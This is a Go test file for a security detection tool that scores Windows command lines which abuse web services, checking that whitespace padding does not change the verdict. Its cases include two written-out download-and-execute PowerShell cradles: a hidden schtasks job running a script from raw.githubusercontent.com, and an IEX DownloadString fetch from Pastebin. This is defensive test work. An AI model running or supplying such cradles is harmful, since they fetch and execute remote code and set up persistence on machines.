package correlate_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// TestPaddedCommandLine: Windows allows 32,767 characters on a command
// line; padding before the URL must not change the judgement, and a
// command line longer than Windows allows is cut with a warning.
func TestPaddedCommandLine(t *testing.T) {
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	tests := []struct {
		name, reason string
		image, cmd   string // cmd has one %s: where the padding goes
		service      string
	}{
		{"schtasks raw github", "a scheduled task that runs a script straight from raw.githubusercontent.com",
			`C:\Windows\System32\schtasks.exe`, `schtasks /create /sc minute /tn upd /tr "powershell -w hidden -c iex(iwr %shttps://raw.githubusercontent.com/acme/tools/main/u.ps1)"`, "github"},
		{"powershell iex pastebin", "the classic IEX-from-Pastebin cradle",
			ps, `powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(%s'https://pastebin.com/raw/Xy12Ab')"`, "pastebin"},
	}
	score := func(t *testing.T, image, cmd string) (rows int, risk string, res []string) {
		in := table(eventFields, []string{"1", "h", "{G1}", "1700000000", image, cmd, `C:\Windows\explorer.exe`, "", "", "", ""})
		r := run(t, in, 2, "all=true")
		for i := range r.Table.Rows {
			if first(r.Table.Get(i, "is_legit_webservice")) != "" {
				risk = first(r.Table.Get(i, "risk_score"))
				require.Equal(t, cmd, first(r.Table.Get(i, "CommandLine")), "the command line is written whole")
			}
		}
		for _, m := range r.Messages {
			res = append(res, m.Text)
		}
		return len(r.Table.Rows), risk, res
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rows, risk, _ := score(t, tt.image, strings.Replace(tt.cmd, "%s", "", 1))
			require.Equal(t, 1, rows, tt.reason)
			require.NotEmpty(t, risk)
			for _, pad := range []int{4_200, 32_000} {
				cmd := strings.Replace(tt.cmd, "%s", strings.Repeat(" ", pad), 1)
				prows, prisk, msgs := score(t, tt.image, cmd)
				require.Equal(t, rows, prows, "%d spaces of padding: %s", pad, tt.reason)
				t.Logf("%d spaces: %d rows, risk_score %s (unpadded: %d rows, %s)", pad, prows, prisk, rows, risk)
				require.Equal(t, risk, prisk, "%d spaces of padding: %s", pad, tt.reason)
				require.NotContains(t, strings.Join(msgs, "\n"), "were cut", "nothing cut within Windows' limit")
			}
		})
	}
	t.Run("longer than Windows allows", func(t *testing.T) {
		cmd := "powershell -c " + strings.Repeat("x", 40_000)
		_, _, msgs := score(t, ps, cmd)
		require.Contains(t, strings.Join(msgs, "\n"), "1 command lines longer than Windows' 32767 characters were cut", "the cut is reported")
	})
}
